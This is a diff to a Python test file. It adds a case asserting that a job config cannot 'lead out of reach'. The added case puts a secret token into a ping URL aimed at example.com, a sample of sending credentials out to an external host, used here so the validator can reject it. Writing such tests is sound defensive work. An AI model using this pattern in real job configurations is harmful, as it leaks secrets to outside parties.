@@ -80,6 +80,7 @@ def test_within_the_tag_everything_goes(driver: Driver) -> None:
         ({"on_failure": "theirs"}, "on_failure"),
         ({"after": {"jobs": ["ours", "theirs"]}}, "after.jobs.1"),
         ({"target": USING}, "target.argv.1"),
+        ({"ping": "https://example.com/{{ secret.TOKEN }}"}, "ping"),
     ],
 )
 def test_a_job_does_not_lead_out_of_reach(driver: Driver, more: dict[str, Any], field: str) -> None:
